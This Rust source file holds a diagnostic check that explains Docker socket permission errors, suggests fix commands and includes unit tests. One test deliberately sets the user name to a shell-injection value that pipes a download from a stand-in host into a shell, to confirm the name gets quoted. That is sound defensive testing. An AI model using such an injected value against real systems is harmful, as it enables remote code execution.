//! This user may not use the engine.

use crate::{Applies, Check, Fix, FixClass, Group, Judged, Severity, Verdict};
use diagnostic::shell;
use facts::Facts;
use facts::docker::State;

pub(super) const CHECK: Check = Check {
    id: "docker-permission-denied",
    group: Group::Docker,
    severity: Severity::Error,
    applies: Applies::Host,
    summary: "this user has access to the engine's socket",
    explain: include_str!("docker_permission_denied.md"),
    judge,
};

fn judge(facts: &Facts) -> Judged {
    let docker = &facts.docker;
    match docker.state() {
        State::Running => return Ok(Verdict::Pass),
        State::Denied => {}
        State::Stopped(_) => return Err(Verdict::NotApplicable("the engine is not running".into())),
        State::Missing => return Err(Verdict::NotApplicable("no Docker engine on this machine".into())),
        State::Unknown(why) => return Err(Verdict::Unknown(why)),
    }
    let (message, fix) = cause(facts);
    let verdict = Verdict::error(message, fix);
    Ok(match docker.socket.known() {
        Some(socket) => verdict.evidence(format!(
            "{} has mode {}, owner {}, group {}",
            socket.path, socket.mode, socket.uid, socket.gid
        )),
        None => verdict,
    })
}

/// Why this user has no access, and what to do.
fn cause(facts: &Facts) -> (String, Fix) {
    let docker = &facts.docker;
    let user = facts.environment.variable("USER").known().copied().unwrap_or("$USER").to_owned();
    let group = docker.group.known();
    let socket_group = docker.socket.known().map(|socket| socket.gid);
    let member = group.is_some_and(|group| group.members.contains(&user));
    let in_session =
        group.zip(facts.system.gids.known()).is_some_and(|(group, gids)| gids.contains(&group.gid));
    match group {
        Some(group) if socket_group.is_some_and(|gid| gid != group.gid) => (
            format!(
                "the engine's socket belongs to group {}, not to group docker ({}); members of docker cannot \
                 use the engine",
                socket_group.unwrap_or_default(),
                group.gid
            ),
            Fix::restarts_service(
                "Restart the engine so that it gives the socket to group docker (containers stop unless \
                 live-restore is on):",
                &["sudo systemctl restart docker.socket docker.service"],
            ),
        ),
        Some(_) if member && !in_session => (
            format!(
                "{user} is in group docker, but this session started before that; it has no access to the \
                 engine"
            ),
            Fix::safe("Log in again, or start a shell with the new group:", &["newgrp docker"]),
        ),
        Some(_) => (
            format!("{user} has no access to the engine's socket: not a member of group docker"),
            Fix {
                title: "Add the user to group docker, then log in again (members of this group have root \
                        privileges):"
                    .into(),
                commands: vec![format!("sudo usermod -aG docker {}", shell::word(&user))],
                edits: Vec::new(),
                class: FixClass::Safe,
            },
        ),
        None => (
            format!("{user} has no access to the engine's socket, and group docker does not exist"),
            Fix::restarts_service(
                "Create the group, join it and restart the engine, then log in again:",
                &[
                    "sudo groupadd docker",
                    "sudo usermod -aG docker $USER",
                    "sudo systemctl restart docker.socket docker.service",
                ],
            ),
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::verdict_line;
    use facts::testing::{Sparse, sparse::host};

    use facts::Fact;
    use facts::testing::sparse::SOCKET;

    #[test]
    fn explains_each_cause_of_denied_access() {
        let ask = "engine unix:///var/run/docker.sock /info";
        let denied = |group: &str| {
            let readings = [("stat /var/run/docker.sock", SOCKET), ("read /etc/group", group)];
            let mut facts = host(&Sparse::new(&readings).failing(&[(ask, facts::Missing::denied())]));
            facts.system.gids = Fact::Known(vec![1000]);
            facts.environment.variables = Fact::Known([("USER".to_owned(), "me".to_owned())].into());
            verdict_line(&CHECK, &facts)
        };
        assert!(denied("docker:x:999:me").contains("this session started before"));
        assert!(denied("docker:x:999:other").contains("not a member"));
        assert!(denied("docker:x:998:me").contains("belongs to group 999"));
        assert!(denied("root:x:0:").contains("group docker does not exist"));
        assert_eq!(verdict_line(&CHECK, &host(&facts::testing::sparse::engine("{}", &[]))), "pass");
    }

    /// A snapshot of a stranger names the user.
    #[test]
    fn user_name_is_shell_quoted_in_the_command() {
        let ask = "engine unix:///var/run/docker.sock /info";
        let readings = [("stat /var/run/docker.sock", SOCKET), ("read /etc/group", "docker:x:999:other")];
        let mut facts = host(&Sparse::new(&readings).failing(&[(ask, facts::Missing::denied())]));
        facts.system.gids = Fact::Known(vec![1000]);
        let name = "me; curl evil | sh #".to_owned();
        facts.environment.variables = Fact::Known([("USER".to_owned(), name)].into());
        let verdict = crate::judge_one(&CHECK, &facts);
        let commands = &verdict.found().unwrap().fixes[0].commands;
        assert_eq!(commands, &["sudo usermod -aG docker 'me; curl evil | sh #'"]);
    }
}
